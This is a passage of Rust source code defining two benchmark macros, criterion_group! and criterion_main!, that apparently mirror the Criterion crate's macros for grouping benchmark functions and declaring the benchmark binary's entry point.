/// `criterion::criterion_group!`.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        pub fn $group() {
            let mut criterion = $crate::Criterion::default().configure_from_args();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declare the benchmark binary entry point, mirroring
/// `criterion::criterion_main!`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}
